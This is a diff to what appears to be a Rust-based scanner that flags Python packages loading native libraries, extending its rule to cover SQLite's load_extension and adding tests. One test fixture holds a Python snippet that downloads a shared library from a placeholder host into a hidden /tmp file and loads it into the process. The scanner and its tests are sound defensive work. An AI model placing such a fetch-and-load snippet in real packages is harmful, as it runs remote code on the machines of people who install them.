@@ -495,6 +495,8 @@ fn loaded_path<'c>(call: &'c ExprCall, qualname: &str) -> Option<&'c Expr> {
         | "ctypes.pydll.LoadLibrary"
         | "ctypes.windll.kernel32.LoadLibraryA"
         | "ctypes.windll.kernel32.LoadLibraryW" => (0, "name"),
+        // SQLite loads an extension library into the process and calls its entry point.
+        "sqlite3.connect().load_extension" | "sqlite3.Connection().load_extension" => (0, "path"),
         // The modules of a zip archive run as they are loaded from it; one put on the import
         // path runs at the next import of a name it holds.
         "zipimport.zipimporter" | "sys.path.append" => (0, "path"),
@@ -978,6 +980,10 @@ mod tests {
         let shipped =
             "import ctypes, os\nctypes.CDLL(os.path.join(os.path.dirname(__file__), 'lib.so'))\n";
         assert_eq!(max_severity("p/pkg/__init__.py", shipped, "WH110"), 0.0);
+        let sqlite = "import sqlite3, urllib.request\np = '/tmp/.x.so'\nurllib.request.urlretrieve('https://x.invalid/x.so', p)\ncon = sqlite3.connect(':memory:')\ncon.enable_load_extension(True)\ncon.load_extension(p)\n";
+        assert!(max_severity("p/pkg/__init__.py", sqlite, "WH110") >= 0.8);
+        let spatialite = "import sqlite3\ncon = sqlite3.connect('g.db')\ncon.enable_load_extension(True)\ncon.load_extension('mod_spatialite')\n";
+        assert_eq!(max_severity("p/pkg/__init__.py", spatialite, "WH110"), 0.0);
     }
 
     #[test]
